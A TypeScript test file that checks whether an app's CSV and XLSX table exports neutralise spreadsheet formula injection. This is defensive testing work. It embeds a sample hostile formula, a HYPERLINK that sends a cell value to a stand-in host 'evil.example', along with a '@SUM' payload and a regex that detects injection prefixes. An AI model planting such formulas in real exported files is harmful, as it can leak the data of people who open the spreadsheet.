import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import readExcelFile from 'read-excel-file/node';
import { onEveryStore, openTestHouse, type TestHouse } from '../api/test-house.ts';

const formula = '=HYPERLINK("http://evil.example?"&A1)';

onEveryStore('A table taken along', (kind) => {
  let house: TestHouse;
  before(async () => {
    house = await openTestHouse(kind);
    const { version } = (await house.get('/api/situation/get-region?region=sample')).body as unknown as {
      version: number;
    };
    const edit = {
      region: 'sample',
      assumption: 'speed.rural',
      value: 66.5,
      reasoning: formula,
      expectedVersion: version,
    };
    assert.equal((await house.post('/api/situation/set-assumption', edit)).status, 200);
  });
  after(() => house.close());

  const table = async (format: string) =>
    (
      await house.get(
        `/api/situation/export-table?region=sample&table=assumptions&format=${format}&language=en`,
      )
    ).body as unknown as Uint8Array<ArrayBuffer>;

  test('as CSV runs no formula that somebody typed, and its numbers stay numbers', async () => {
    const bytes = await table('csv');
    const rows = parse(Buffer.from(bytes), { bom: true, columns: true }) as Record<string, string>[];
    const row = rows.find(({ Id }) => Id === 'speed.rural');
    assert.equal(row?.['Reasoning'], `'${formula}`);
    assert.equal(row?.['Value'], '66.5');
    for (const one of rows)
      for (const text of Object.values(one)) assert.doesNotMatch(text, /^[=+@\t\r]|^-(?!\d)/);
  });

  test('as XLSX holds the same words as text and numbers as numbers', async () => {
    const sheets = await readExcelFile(Buffer.from(await table('xlsx')));
    const rows = (
      Array.isArray(sheets[0]) ? sheets : (sheets[0] as unknown as { data: unknown[][] }).data
    ) as unknown[][];
    const row = rows.find(([id]) => id === 'speed.rural');
    assert.equal(row?.[2], 66.5);
    assert.equal(row?.[4], formula);
  });

  test("an alternative's reasons are neutralised in the same way", async () => {
    const pulls = [{ lever: 'close-site', settings: { site: 'rantakyla' }, rationale: '@SUM(A1:A9)' }];
    const made = await house.post('/api/alternatives/create-alternative', {
      region: 'sample',
      name: '+1',
      pulls,
    });
    const { id } = made.body as unknown as { id: string };
    const { body } = await house.get(
      `/api/alternatives/export-evaluation?region=sample&alternative=${id}&table=effects&format=csv`,
    );
    assert.match(new TextDecoder().decode(body), /'@SUM\(A1:A9\)/);
  });
});
